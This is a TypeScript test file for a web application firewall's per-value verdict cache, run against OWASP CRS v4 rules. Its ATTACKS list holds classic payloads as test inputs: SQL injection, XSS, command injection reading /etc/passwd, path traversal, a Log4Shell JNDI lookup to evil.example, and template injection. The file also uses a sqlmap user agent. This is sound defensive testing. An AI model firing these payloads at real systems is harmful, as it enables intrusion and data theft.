/**
 * The process-wide value memo (src/waf/engine/value-memo.ts): rule verdicts remembered per
 * request value across requests. It must never change a verdict, never key on a secret,
 * and stay bounded.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { MEMO_HIT, MEMO_MISS, MEMO_UNKNOWN, ROW_NONE, ValueMemo } from '../../../src/waf/engine/value-memo.js';
import type { LoadedRuleSet } from '../../../src/waf/ruleset.js';
import { CRS_V4_RULES, hasV4 } from '../crs-dirs.js';
import { CHAT_TARGET, SDK_HEADERS, chat, cleanRuleSet, crsRuleSet, request, run, type RequestSpec } from './helpers.js';

const skipV4 = hasV4 ? false : `CRS v4 not found at ${CRS_V4_RULES}; set PORTCULLIS_CRS_V4_DIR to a coreruleset v4 checkout`;

let v4: LoadedRuleSet | null = null;
function crsV4(): LoadedRuleSet {
  // Detection PL 2: more rules (and more of them memoizable) take part than at PL1.
  v4 ??= crsRuleSet(CRS_V4_RULES, { paranoiaLevel: 1, detectionParanoiaLevel: 2 });
  return v4;
}

const ATTACKS = [
  "1' OR '1'='1", '1 UNION SELECT username, password FROM users--', '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '; cat /etc/passwd', '../../../../etc/passwd', '${jndi:ldap://evil.example/a}',
  'char(65)', '{{7*7}}',
];

function corpus(): RequestSpec[] {
  const out: RequestSpec[] = [];
  const benign = ['Hello!', 'What is the capital of France?', 'Translate "good morning" to German.', "It's O'Reilly's book; SELECT the best one"];
  for (const content of benign) {
    out.push({ method: 'POST', target: CHAT_TARGET, headers: SDK_HEADERS, body: chat({ user: 'user-1234' }, content) });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: [...SDK_HEADERS, ['Cookie', 'session=abc123; theme=dark']], body: chat({ max_tokens: 100, metadata: { team: 'search' } }, content) });
  }
  out.push({ method: 'GET', target: '/openai/deployments?api-version=2024-10-21', headers: SDK_HEADERS });
  out.push({ method: 'POST', target: '/openai/deployments/emb/embeddings?api-version=2024-10-21', headers: SDK_HEADERS, body: { input: ['one', 'two'] } });
  for (const p of ATTACKS) {
    out.push({ method: 'POST', target: `${CHAT_TARGET}&q=${encodeURIComponent(p)}`, headers: SDK_HEADERS, body: chat() });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: SDK_HEADERS, body: chat({ user: p }) });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: SDK_HEADERS, body: chat({ metadata: { x: p } }) });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: [...SDK_HEADERS, ['Referer', p], ['X-Custom', p]], body: chat() });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: [...SDK_HEADERS, ['Cookie', `session=${p.replaceAll(';', '%3B')}`]], body: chat() });
    out.push({ method: 'POST', target: CHAT_TARGET, headers: SDK_HEADERS, body: chat({}, p) });
  }
  out.push({ method: 'GET', target: '/', headers: [['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] });
  return out;
}

function verdict(rs: LoadedRuleSet, spec: RequestSpec, memo: ValueMemo | null): unknown {
  const tx = run(rs, request(spec), 'On', memo);
  return {
    matches: tx.matches,
    interruption: tx.interruption,
    blocking: tx.tx('blocking_inbound_anomaly_score'),
    detection: tx.tx('detection_inbound_anomaly_score'),
    pl1: tx.tx('inbound_anomaly_score_pl1'),
    pl2: tx.tx('inbound_anomaly_score_pl2'),
    sqli: tx.tx('sql_injection_score'),
    xss: tx.tx('xss_score'),
    rce: tx.tx('rce_score'),
    lfi: tx.tx('lfi_score'),
  };
}

test('CRS v4: verdicts are identical with the memo (cold and warm) and without it', { skip: skipV4 }, () => {
  const rs = crsV4();
  const specs = corpus();
  const cold = specs.map((s) => verdict(rs, s, rs.memo));
  assert.ok(rs.memo.size > 0, 'the memo was used');
  const warm = specs.map((s) => verdict(rs, s, rs.memo));
  const none = specs.map((s) => verdict(rs, s, null));
  for (let i = 0; i < specs.length; i++) {
    assert.deepEqual(warm[i], cold[i], `warm memo differs on request ${i}`);
    assert.deepEqual(none[i], cold[i], `no memo differs on request ${i}`);
  }
  // The corpus exercises both outcomes.
  const blocked = none.filter((v) => (v as { interruption: unknown }).interruption !== null).length;
  assert.ok(blocked > 20 && blocked < specs.length - 5, `${blocked} of ${specs.length} blocked`);
});

test('multiMatch: a remembered hit gives the same MATCHED_VAR as a computed one', {
}, () => {
  const rs = cleanRuleSet(`
SecRule REQUEST_HEADERS:X-V "@rx ^ab " "id:1,phase:1,pass,nolog,multiMatch,t:none,t:lowercase,t:removeWhitespace,setvar:'tx.mv=%{MATCHED_VAR}'"
`);
  const spec: RequestSpec = { headers: [['X-V', 'AB c']] };
  assert.equal(run(rs, request(spec), 'On', null).tx('mv'), 'ab c');
  assert.equal(run(rs, request(spec), 'On', rs.memo).tx('mv'), 'ab c', 'first request, memo cold');
  assert.equal(run(rs, request(spec), 'On', rs.memo).tx('mv'), 'ab c', 'second request, memo warm');
});

test('memo: a value remembered without a verdict for a rule (earlier request interrupted, or prompt-exempt) is still evaluated by it', () => {
  const rs = cleanRuleSet(`
SecRule ARGS:stop "@streq 1" "id:1,phase:1,deny"
SecRule ARGS "@rx evil" "id:2,phase:2,deny,tag:'attack-test'"
`);
  // Request 1 stops at rule 1: rule 2 never judged "evil".
  assert.equal(run(rs, request({ target: '/?stop=1&q=evil' }), 'On', rs.memo).interruption?.ruleId, '1');
  assert.equal(run(rs, request({ target: '/?stop=0&q=evil' }), 'On', rs.memo).interruption?.ruleId, '2');
  // Request 3 has "evil2" only as prompt content (rule 2 skips it); request 4 outside a prompt.
  const prompt = run(rs, request({ body: { messages: [{ role: 'user', content: 'evil2' }] } }), 'On', rs.memo);
  assert.equal(prompt.interruption, null);
  assert.equal(run(rs, request({ body: { user: 'evil2', messages: [{ role: 'user', content: 'evil2' }] } }), 'On', rs.memo).interruption?.ruleId, '2');
});

test('memo: a new value among values remembered as misses is evaluated; a remembered hit still matches', () => {
  const rs = cleanRuleSet('SecRule ARGS "@rx evil" "id:1,phase:2,pass,setvar:tx.hits=+1"');
  const hits = (target: string): string | undefined => run(rs, request({ target }), 'On', rs.memo).tx('hits');
  assert.equal(hits('/?a=x&b=y'), undefined);
  assert.equal(hits('/?a=x&b=y'), undefined);
  assert.equal(hits('/?a=x&b=y&c=evil'), '1', 'new value, all others known misses');
  assert.equal(hits('/?a=x&b=y&c=evil'), '1', 'remembered hit');
  assert.equal(hits('/?a=x&c=evil&d=evil'), '2', 'the same value twice, two matches');
});

test('memo: a remembered hit of a capturing rule writes the captures of this match again', () => {
  const rs = cleanRuleSet(`
SecRule ARGS "@rx ^([a-z]+)-(\\d+)$" "id:1,phase:2,pass,nolog,capture,chain"
    SecRule TX:2 "@rx ." "setvar:'tx.last=%{tx.1}/%{tx.2}'"
`);
  const last = (target: string): string | undefined => run(rs, request({ target }), 'On', rs.memo).tx('last');
  assert.equal(last('/?a=abc-42'), 'abc/42');
  assert.equal(last('/?a=abc-42'), 'abc/42', 'remembered hit');
  assert.equal(last('/?b=zz-7&a=abc-42'), 'abc/42', 'the last matching value writes last');
  assert.equal(last('/?a=abc-42&b=zz-7'), 'zz/7');
  assert.equal(last('/?a=nope'), undefined, 'remembered miss: nothing captured');
});

/** Every value the memo was asked about while `fn` ran. */
function memoKeys(memo: ValueMemo, fn: () => void): Set<string> {
  const seen = new Set<string>();
  const original = memo.row;
  memo.row = (value: string) => {
    seen.add(value);
    return original.call(memo, value);
  };
  try {
    fn();
  } finally {
    memo.row = original;
  }
  return seen;
}

const SECRETS = ['sk-ApiKeyValue-', 'eyJhbGciOiJIUzI1NiJ9.e30.sig-', 'cookie-secret-', 'dXNlcjpwYXNz', 'apim-key-'];

function withSecrets(n: string, extra: readonly (readonly [string, string])[] = []): RequestSpec {
  return {
    method: 'POST',
    target: CHAT_TARGET,
    headers: [
      ['User-Agent', 'AzureOpenAI/Python 1.54.4'],
      ['api-key', `sk-ApiKeyValue-${n}`],
      ['Authorization', `Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig-${n}`],
      ['Proxy-Authorization', `Basic dXNlcjpwYXNz${n}`],
      ['Ocp-Apim-Subscription-Key', `apim-key-${n}`],
      ['Cookie', `sid=cookie-secret-${n}; theme=dark`],
      ...extra,
    ],
    body: chat({ user: 'user-1' }),
  };
}

test('CRS v4: credential header values and cookie values are never memo keys', { skip: skipV4 }, () => {
  const rs = crsV4();
  const keys = memoKeys(rs.memo, () => {
    run(rs, request(withSecrets('0001')), 'On', rs.memo);
  });
  assert.ok(keys.size > 10, 'other values are remembered');
  for (const k of keys) for (const s of SECRETS) assert.ok(!k.includes(s), `memo key ${JSON.stringify(k)} holds a secret`);
  assert.ok(keys.has('AzureOpenAI/Python 1.54.4'), 'an ordinary header value is a key');
  assert.ok(keys.has('theme'), 'cookie names are not secret');
});

test('CRS v4: a new credential adds only rows keyed by its SHA-256, never by the credential', { skip: skipV4 }, () => {
  // Remembering a credential's verdicts under a hash (as API keys are stored) saves
  // evaluating ~100 header rules on it per request; the memo stays bounded (maxValues).
  const rs = crsV4();
  run(rs, request(withSecrets('1001')), 'On', rs.memo);
  const before = rs.memo.size;
  for (const n of ['1002', '1003', '1004']) run(rs, request(withSecrets(n)), 'On', rs.memo);
  const perRequest = (rs.memo.size - before) / 3;
  // One row per credential-bearing header or cookie, nothing else.
  assert.ok(perRequest > 0 && perRequest <= SECRETS.length + 1, `${perRequest} rows per new credential set`);
});

test('CRS v4: the memo grows when an ordinary header value changes (control for the test above)', { skip: skipV4 }, () => {
  const rs = crsV4();
  run(rs, request(withSecrets('2001', [['X-Request-Tag', 'tag-2001']])), 'On', rs.memo);
  const before = rs.memo.size;
  run(rs, request(withSecrets('2001', [['X-Request-Tag', 'tag-2002']])), 'On', rs.memo);
  assert.ok(rs.memo.size > before);
});

test('values longer than maxValueLength (256) are not remembered', () => {
  const rs = cleanRuleSet('SecRule REQUEST_HEADERS "@rx evil" "id:1,phase:1,deny"');
  run(rs, request({ headers: [['X-V', 'short']] }), 'On', rs.memo);
  const before = rs.memo.size;
  const long = `${'x'.repeat(300)}evil`;
  const tx = run(rs, request({ headers: [['X-V', long]] }), 'On', rs.memo);
  assert.equal(tx.interruption?.ruleId, '1');
  assert.equal(rs.memo.size, before);
  assert.equal(run(rs, request({ headers: [['X-V', long]] }), 'On', rs.memo).interruption?.ruleId, '1');
});

test('ValueMemo: one row per value, rows reused, dropped whole when the next transaction starts after it filled up, long values and zero slots refused', () => {
  const m = new ValueMemo(40, 3, 8);
  const a = m.row('a');
  assert.ok(a >= 0);
  assert.ok(m.isNew(a), 'first lookup');
  assert.equal(m.row('a'), a, 'the same row for the same value');
  assert.equal(m.isNew(a), false);
  m.record(a, 33, false);
  m.record(a, 2, true);
  assert.equal(m.verdict(a, 33), MEMO_MISS);
  assert.equal(m.verdict(a, 2), MEMO_HIT);
  assert.equal(m.missWord(a, 1), 1 << 1, 'slot 33 is bit 1 of word 1');
  m.row('b');
  m.row('c');
  assert.equal(m.size, 3);
  assert.equal(m.row('d'), ROW_NONE, 'full: not remembered, and no row handed out changes under the running transaction');
  assert.equal(m.row('a'), a);
  assert.equal(m.verdict(a, 33), MEMO_MISS);
  m.begin();
  assert.equal(m.size, 0, 'dropped as the next transaction starts');
  const d = m.row('d');
  assert.ok(d >= 0);
  assert.equal(m.verdict(d, 33), MEMO_UNKNOWN, 'a reused row starts unknown');
  assert.equal(m.missWord(d, 1), 0);
  assert.equal(m.row('123456789'), ROW_NONE, 'longer than maxValueLength');
  assert.equal(m.size, 1);
  assert.equal(new ValueMemo(0).row('a'), ROW_NONE, 'no memoizable rule, no rows');
  const big = new ValueMemo(3, 1000);
  for (let i = 0; i < 600; i++) big.record(big.row(`v${i}`), i % 3, i % 2 === 0);
  for (let i = 0; i < 600; i++) assert.equal(big.verdict(big.row(`v${i}`), i % 3), i % 2 === 0 ? MEMO_HIT : MEMO_MISS, 'kept across growth');
});

test('the memo of a rule set stays bounded (8192 values) under unique values and keeps verdicts right', () => {
  const rs = cleanRuleSet('SecRule REQUEST_HEADERS:X-V "@rx evil" "id:1,phase:1,deny"');
  let max = 0;
  for (let i = 0; i < 8300; i++) {
    const tx = run(rs, request({ headers: [['X-V', `value-${i}${i % 1000 === 999 ? '-evil' : ''}`]] }), 'On', rs.memo);
    assert.equal(tx.interruption !== null, i % 1000 === 999, `request ${i}`);
    max = Math.max(max, rs.memo.size);
  }
  assert.equal(max, 8192);
  assert.ok(rs.memo.size < 8192);
});
